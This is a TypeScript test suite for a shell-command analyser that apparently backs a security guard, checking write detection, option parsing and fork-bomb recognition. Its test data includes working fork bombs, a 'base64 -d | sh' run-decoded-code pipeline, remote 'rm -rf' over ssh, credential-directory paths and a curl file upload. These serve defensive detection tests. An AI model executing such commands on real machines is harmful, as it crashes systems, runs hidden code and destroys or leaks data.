  ["make &>> build.log", ["&>> build.log"]],
  ["make >& out.txt", [">& out.txt"]],
  ["cat > app.py <<'EOF'\nprint(1)\nEOF", ["> app.py"]],
  ["python - <<EOF > x.py\nprint(1)\nEOF", ["> x.py"]],
  ["echo x | tee a.py", ["tee a.py"]],
  ["echo x | tee -a a.py b.ts", ["tee a.py", "tee b.ts"]],
  ["echo x | sudo tee --append /etc/x > /dev/null", ["tee /etc/x"]],
  ["sed -i 's/a/b/' a.py b.py", ["sed -i a.py", "sed -i b.py"]],
  ["sed -i.bak -e 's/a/b/' a.py", ["sed -i a.py"]],
  ["sed --in-place 's/a/b/' a.py", ["sed -i a.py"]],
  ["sed -i '' 's/a/b/' a.py", ["sed -i a.py"]],
  ["sed -Ei 's/a/b/' a.py", ["sed -i a.py"]],
  ["sed 's/a/b/' a.py", []],
  ["sed -n 's/a/b/p' a.py > out.py", ["> out.py"]],
  ["perl -pi -e 's/a/b/' a.pl", ["perl -i a.pl"]],
  ["perl -i.bak -pe 's/a/b/' a.pl", ["perl -i a.pl"]],
  ["perl -i -p -e 's/a/b/' a.pl b.pl", ["perl -i a.pl", "perl -i b.pl"]],
  ["perl -ne 'print' a.pl", []],
  ["cp a.py b.py", ["cp b.py"]],
  ["cp -r src/ dst/", ["cp dst/"]],
  ["cp -t dst a b", ["cp dst"]],
  ["mv old.ts new.ts", ["mv new.ts"]],
  ["install -m 755 a.sh /usr/local/bin/a", ["install /usr/local/bin/a"]],
  ["install -d dir", []],
  ["dd if=/dev/zero of=disk.img bs=1M", ["dd disk.img"]],
  ["truncate -s 0 a.log", ["truncate a.log"]],
  ["curl -o x.sh https://x", ["curl -o x.sh"]],
  ["wget -O x.sh https://x", ["wget -O x.sh"]],
  ["jq . a.json | sponge a.json", ["sponge a.json"]],
  ["for f in a b; do echo $f; done > list.txt", ["> list.txt"]],
  ["{ echo a; echo b; } > both.txt", ["> both.txt"]],
  ["echo $(cat a > b.py)", ["> b.py"]],
  ["bash -c 'echo x > c.py'", ["> c.py"]],
  ["sudo sed -i 's/a/b/' /etc/hosts", ["sed -i /etc/hosts"]],
  ['echo x > "$OUT"', ["> $OUT"]],
  // negatives
  ['echo "x > y.py"', []],
  ["echo 'cat > a.py'", []],
  ["make > /dev/null 2>&1", []],
  ["make 2>/dev/null >&2", []],
  ["make >&- 2>&1 1>/dev/stderr", []],
  ["cat <<EOF\necho x > a.py\nEOF", []],
  ["grep '> a.py' notes.md", []],
  ["cat a.py", []],
  ["tee", []],
  ["cp a.py", []],
  ["# echo x > a.py", []],
  ["echo x | tee /dev/null", []],
  ["echo x | tee >(cat) a.txt", ["tee a.txt"]],
  ["make > >(tee log.txt)", ["tee log.txt"]],
  ["gawk -i inplace '{print}' a.py", ["awk -i inplace a.py"]],
  ["awk '{print}' a.py", []],
  ["rsync -av src/ dst/", ["rsync dst/"]],
  ["rsync -av src/ host:/dst", []],
  ["cat <<EOF > gen.py\nx = '$(date)'\nEOF", ["> gen.py"]],
  ["exec > run.log 2>&1", ["> run.log"]],
  ["> empty.py", ["> empty.py"]],
  ['w() { cat > "$1"; }; w gen.py', ["> $1", "> gen.py"]],
  ["cd src && sed -i 's/a/b/' x.ts && npm test", ["sed -i x.ts"]],
  ["ssh h 'echo x > a.py'", []],
  ["docker exec c sh -c 'echo x > a.py'", []],
  ["git commit -m \"$(cat <<'EOF'\nwrite > a.py\nEOF\n)\"", []],
];

describe("expandWord (expansion on the tree)", () => {
  const word = (src: string) => analyze(`x ${src}`).commands.find((c) => c.depth === 0)?.words[1] as Word;
  const known = { scalar: (n: string) => ({ D: "/usr", S: "a b", E: "" })[n], array: (n: string) => (n === "d" ? ["/etc", "x y"] : undefined) };
  const texts = (src: string) => expandWord(word(src), known)?.map((w) => w.text) ?? null;
  it("puts values in quote by quote and splits only unquoted ones", () => {
    expect(texts('"$D/lib"')).toEqual(["/usr/lib"]);
    expect(texts("$S")).toEqual(["a", "b"]);
    expect(texts('"$S"')).toEqual(["a b"]);
    expect(texts("'$D'$D")).toEqual(["$D/usr"]);
    expect(texts("${D:-/tmp}")).toEqual(["/usr"]);
    expect(texts("${E:-/tmp}")).toBeNull();
    expect(texts("$UNKNOWN")).toBeNull();
  });
  it("keeps quoted array items one field each, and leaves other expansions as written", () => {
    expect(texts('"${d[@]}"')).toEqual(["/etc", "x y"]);
    expect(texts("${d[@]}")).toEqual(["/etc", "x", "y"]);
    expect(texts('"${d[*]}"')).toEqual(["/etc x y"]);
    expect(texts('"$(pwd)/$D"')).toEqual(["$(pwd)//usr"]);
  });
  it("puts known substitution output in, in order, arithmetic aside", () => {
    const outs = ["/etc", null];
    let i = 0;
    const subs = { scalar: () => undefined, array: () => undefined, sub: () => outs[i++] ?? null };
    expect(expandWord(word('"$(echo /etc)"$(( 1 + 2 ))`date`'), subs)?.map((w) => w.text)).toEqual(["/etc$(( 1 + 2 ))`date`"]);
  });
});

describe("parseOptions (the one option parser, driven by SPECS)", () => {
  const words = (src: string) => (analyze(src).commands[0] as SimpleCommand).words;
  const opts = (src: string, prog: string) => parseOptions(words(src), prog).options.map((o) => (o.value === undefined ? o.name : `${o.name}=${o.value}`));
  it("reads bundled, glued, separate and long spellings of one option under its long name", () => {
    expect(opts("curl -sSd@f https://x", "curl")).toEqual(["s", "S", "data=@f"]);
    expect(opts("curl -sSF x=@f https://x", "curl")).toEqual(["s", "S", "form=x=@f"]);
    expect(opts("curl --data=@f -T - --data-urlencode t=v https://x", "curl")).toEqual(["data=@f", "upload-file=-", "data-urlencode=t=v"]);
    expect(opts("curl -G -H 'A: b' https://x", "curl")).toEqual(["get", "header=A: b"]);
  });
  it("skips option values when collecting operands, and a posix spec stops at the first operand", () => {
    expect(parseOptions(words("aws s3 cp f s3://b/ --profile prod"), "aws").operands.map((w) => w.text)).toEqual(["s3", "cp", "f", "s3://b/"]);
    expect(parseOptions(words("ssh -p 22 host rm -rf x"), "ssh").operands.map((w) => w.text)).toEqual(["host", "rm", "-rf", "x"]);
  });
  it("reads a subcommand after the program's own options, with the subcommand's letters", () => {
    const push = subcommand(words("git -C repo -c a=b push -f origin"), "git");
    expect(push?.sub).toBe("push");
    expect(push?.args.options.map((o) => o.name)).toEqual(["force"]);
    const issue = subcommand(words("gh issue comment 7 -F notes.md"), "gh");
    expect(issue && optionValues(issue.args, "body-file")).toEqual(["notes.md"]);
    const api = subcommand(words("gh api repos/o/r -F body=@f -f t=x"), "gh");
    expect(api && optionValues(api.args, "field")).toEqual(["body=@f"]);
  });
});

describe("writtenPaths", () => {
  for (const [src, want] of WRITES) {
    it(JSON.stringify(src), () => expect(writtenPaths(analyze(src)).map((p) => `${p.how} ${p.path}`)).toEqual(want));
  }
  it("points at the writing command", () => {
    const w = writtenPaths(analyze("cd x && echo a > b.py"));
    expect(w[0]?.cmd.text).toBe("echo a > b.py");
  });
  it("flags a dynamic path", () => {
    expect(writtenPaths(analyze("echo x > $F"))[0]?.word?.dynamic).toBe(true);
  });
});

// ---- brace expansion ------------------------------------------------------------------------
describe("expandBraces", () => {
  const rows: [string, string[]][] = [
    ["/{etc,usr}", ["/etc", "/usr"]],
    ["a{b,c{d,e}}f", ["abf", "acdf", "acef"]],
    ["x{1..3}", ["x1", "x2", "x3"]],
    ["{a..c}", ["a", "b", "c"]],
    ["{01..10..3}", ["01", "04", "07", "10"]],
    ["~/{.ssh,.aws}/*", ["~/.ssh/*", "~/.aws/*"]],
    ["${HOME}", ["${HOME}"]],
    ["{a}", ["{a}"]],
    ["{", ["{"]],
    ["{1..1000}", ["{1..1000}"]],
    ["{a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}", ["{a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}"]],
  ];
  for (const [t, want] of rows) it(t, () => expect(expandBraces(t)).toEqual(want));
});

// ---- fork bombs -----------------------------------------------------------------------------
describe("isForkBomb", () => {
  const yes = [
    "f(){ while :; do f & done; }; f",
    ".(){ .|.& };.",
    ":(){ :& :; };:",
    ":(){ :|:&};:",
    "bash -c ':(){ :|:& };:'",
    ":(){ :|: & };:",
    "bomb(){ bomb|bomb& }; bomb",
    "f() { f | f & }\nf",
    "function g { g & g; }; g",
  ];
  const no = [
    "f(){ while read l; do echo $l; done; }; f",
    "f(){ for x in a b; do g & done; }; f",
    "f(){ echo hi; }; f",
    ":(){ :|:& }",
    "f() { f; }; f",
    "a | a &",
    "g(){ g & }; g",
  ];
  for (const s of yes) it(`bomb: ${JSON.stringify(s)}`, () => expect(isForkBomb(s)).toBe(true));
  for (const s of no) it(`not a bomb: ${JSON.stringify(s)}`, () => expect(isForkBomb(s)).toBe(false));
  it("takes an analysis", () => expect(isForkBomb(analyze(":(){ :|:& };:"))).toBe(true));
});

// ---- the plain-words fast path gives what the parser gives ------------------------------------
describe("fast path", () => {
  const plain = [
    "git status",
    "ls -la ~/x",
    "  npm run build  ",
    "python3 -m pytest tests/ -x --tb=short",
    "sudo rm -f a",
    "xargs rm",
    "find . -name x -delete",
    "bash x.sh",
    "eval a",
    "ssh h a",
    "a=1",
    "time a",
    "if",
    "in x",
    "rm -rf ./dist",
    "curl -fsSL https://x.y/z?a",
    "docker exec c a",
    "\tcat\ta.txt",
  ];
  for (const src of plain) {
    it(JSON.stringify(src), () => expect(JSON.stringify(analyze(src))).toBe(JSON.stringify(analyze(src + " #"))));
  }
});

// ---- fuzz: random shell-ish token soup never throws and keeps the invariants -------------------
describe("fuzz", () => {
  it("3000 random inputs", () => {
    let seed = 42;
    const rnd = (): number => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed / 0x7fffffff;
    };
    const atoms = [
      "a",
      " ",
      "\n",
      ";",
      "&",
      "|",
      "(",
      ")",
      "{",
      "}",
      "<",
      ">",
      "$",
      "'",
      '"',
      "`",
      "\\",
      "#",
      "*",
      "=",
      "$(",
      "${",
      "<<",
      "EOF",
      "if ",
      "then ",
      "fi",
      "do ",
      "done",
      "for ",
      "in ",
      "case ",
      "esac",
      ";;",
      "bash -c ",
      "eval ",
      "sudo ",
      "xargs ",
      "find . -exec ",
      " {} \\;",
      "echo ",
      "base64 -d",
      " | sh",
      "x=",
      "$x",
      "f()",
      "<<<",
      "&>",
      "2>&1",
      "ssh h ",
      "!",
      "[[",
      "]]",
      "((",
      "$'",
      "tee ",
      "> a.py",
    ];
    for (let n = 0; n < 3000; n++) {
      let s = "";
      const len = 1 + Math.floor(rnd() * 30);
      for (let k = 0; k < len; k++) s += atoms[Math.floor(rnd() * atoms.length)];
      const a = analyze(s);
      writtenPaths(a);
      isForkBomb(a);
      for (const c of a.commands) flagSet(unwrapRunner(c));
      for (const [i, p] of a.pipelines.entries()) for (const [k, c] of p.entries()) expect([c.pipeline, c.stage, c.pipelineLength]).toEqual([i, k, p.length]);
      expect(a.pipelines.reduce((x, p) => x + p.length, 0)).toBe(a.commands.length);
    }
  });
});

// ---- crafted input: bounded results, never throws ---------------------------------------------
describe("crafted input", () => {
  it("'set x | ' repeated to 1 MB", () => {
    const a = analyze("set x | ".repeat(131072));
    expect(a.incomplete).toBe(true);
    expect(a.commands.length).toBeLessThanOrEqual(2000);
  });
  it("'<<EOF ' repeated with no end", () => {
    const a = analyze("cat " + "<<EOF ".repeat(170000));
    expect(a.incomplete).toBe(true);
  });
  it("<<EOF lines with no terminator", () => {
    const a = analyze("cat <<EOF\n" + "x <<EOF\n".repeat(100000));
    expect(a.incomplete).toBe(true);
    expect(a.commands.length).toBe(1);
  });
  it("unbalanced quotes", () => {
    const a = analyze(`echo "a 'b \`c $(d `.repeat(50000));
    expect(a.incomplete).toBe(true);
  });
  it("1 MB of lowercase words", () => {
    const a = analyze("abc def ghi ".repeat(90000));
    expect(a.incomplete).toBe(true);
    expect(a.commands.length).toBe(1);
  });
  it("deep $( nesting", () => {
    const a = analyze("echo " + "$(".repeat(100000) + "x" + ")".repeat(100000));
    expect(a.incomplete).toBe(true);
  });
  it("deep subshell nesting", () => {
    expect(analyze("(".repeat(200000) + "a" + ")".repeat(200000)).incomplete).toBe(true);
  });
  it("deep backtick nesting", () => {
    let s = "a";
    for (let k = 0; k < 12; k++) s = "echo `" + s.replace(/\\/g, "\\\\").replace(/`/g, "\\`") + "`";
    expect(() => analyze(s)).not.toThrow();
  });
  it("'((' nesting and '$((a) ' runs do not rescan", () => {
    expect(analyze("((".repeat(100000) + "a").incomplete).toBe(true);
    const a = analyze("echo " + "$((a) ".repeat(40000));
    expect(a.incomplete).toBe(true);
    expect(a.commands.length).toBeLessThanOrEqual(2000);
  });
  it("nested arithmetic stays arithmetic", () => {
    expect(cmds(analyze("echo $(( 1 + $(( 2 )) )) && (( i = (j) ))"))).toEqual(["echo $(( 1 + $(( 2 )) ))"]);
  });
  it("deep if nesting", () => {
    expect(analyze("if a; then ".repeat(50000)).incomplete).toBe(true);
  });
  it("many commands", () => {
    const a = analyze("a;".repeat(100000));
    expect(a.commands.length).toBe(2000);
    expect(a.incomplete).toBe(true);
  });
  it("maxBytes keeps the prefix", () => {
    const a = analyze("a; b; c", { maxBytes: 4 });
    expect(cmds(a)).toEqual(["a", "b"]);
    expect(a.incomplete).toBe(true);
  });
  it("huge base64 pipeline", () => {
    const a = analyze(`echo ${b64("a ".repeat(60000))} | base64 -d | sh`);
    expect(a.commands.length).toBeGreaterThan(3);
  });
  it("nested bash -c bombs stay bounded", () => {
    let s = "a";
    for (let k = 0; k < 8; k++) s = `bash -c ${JSON.stringify(s)}`;
    const a = analyze(s);
    expect(a.incomplete).toBe(true);
    expect(a.commands.length).toBe(5);
  });
  it("a script run a thousand times is re-analysed within one budget", () => {
    const a = analyze("cat <<EOF > f\n" + "a ".repeat(50000) + "\nEOF\n" + "bash f;".repeat(1000));
    expect(a.incomplete).toBe(true);
    expect(a.commands.length).toBeLessThanOrEqual(2000);
  });
  it("a literal '$d' loop value is not resolved again and again", () => {
    const a = analyze("for d in '$d' '$d' '$d'; do a $d; done");
    expect(cmds(a)).toEqual(["a $d"]);
  });
  it("backtick soup", () => {
    for (const unit of ["`\\`", "`\\\\\\`", '"`\\"`"']) {
      const a = analyze(unit.repeat(40000));
      expect(a.commands.length).toBeLessThanOrEqual(2000);
    }
  });
  it("binary junk", () => {
    let s = "";
    for (let k = 0; k < 70000; k++) s += String.fromCharCode((k * 7919) % 128);
    expect(() => analyze(s)).not.toThrow();
  });
  it("non-string input", () => {
    expect(analyze(undefined as unknown as string).commands).toEqual([]);
  });
});

describe("security_guard's checks registry", () => {
  it("names every check a shipped row uses, and the gate lets each check's words through", async () => {
    const { REGISTRY, checkNamed } = await import("../templates/security_guard/checks/index");
    const { CARRIERS, CHECK_WORDS } = await import("../templates/security_guard/checks/words");
    const { DESTRUCTIVE } = await import("../templates/security_guard/tables");
    const { gateWords } = await import("../templates/security_guard/gate");
    expect(new Set(REGISTRY.map((c) => c.name)).size).toBe(REGISTRY.length);
    expect(REGISTRY.map((c) => c.name).sort()).toEqual(Object.keys(CHECK_WORDS).sort());
    for (const row of DESTRUCTIVE) if ("check" in row.match) expect(checkNamed(row.match.check)?.name, row.id).toBe(row.match.check);
    // the gate's words are exactly the registry's triggers and the carriers
    const words = new Set<string>([...CARRIERS, ...REGISTRY.flatMap((c) => [...c.triggers])]);
    expect([...gateWords()].sort()).toEqual([...words].sort());
  });
  it("has no import cycle between the gate and the rules", () => {
    const src = (f: string) => readFileSync(join(__dirname, "..", "templates", "security_guard", f), "utf8");
    expect(src("rules.ts")).not.toMatch(/from "\.\/gate"/);
    for (const f of readdirSync(join(__dirname, "..", "templates", "security_guard", "checks")))
      expect(src("checks/" + f)).not.toMatch(/from "\.\.\/(?:gate|rules)"/);
  });
});

describe("command specs: one option parser for every program", async () => {
  const { parseArgs } = await import("../engine/shell/specs");
  const ops = (src: string, prog?: string) => {
    const c = analyze(src).commands[0] as SimpleCommand;
    // docker exec: the subcommand's options start after "exec"
    return parseArgs(c.words, prog ?? programName(c.words[0]), prog === "docker exec" ? 2 : 1).operands.map((w) => w.text);
  };
  const CASES: [string, string[], string?][] = [
    ["ssh -p 22 -i key host a b", ["host", "a", "b"]],
    ["ssh -tp22 host a", ["host", "a"]],
    ["ssh -vi key host -x", ["host", "-x"]],
    ["scp -P 2222 -i k f host:", ["f", "host:"]],
    ["rsync -av --exclude node_modules -e ssh src/ host:dst", ["src/", "host:dst"]],
    ["rsync --rsh=ssh a b", ["a", "b"]],
    ["docker exec -u root -w /x ctr a -b", ["ctr", "a", "-b"], "docker exec"],
    ["parallel -j 4 --joblog l a {} ::: x", ["a", "{}", ":::", "x"]],
    ["xargs -n 1 -P4 a", ["a"]],
  ];
  for (const [src, want, prog] of CASES) it(src, () => expect(ops(src, prog)).toEqual(want));
  it("sshRemote reads the same letters: the remote command after -i / -p values", () => {
    expect(vias(analyze("ssh -i k -p 2 h rm -rf x"))).toEqual([":ssh -i k -p 2 h rm -rf x", "ssh:rm -rf x"]);
  });
});
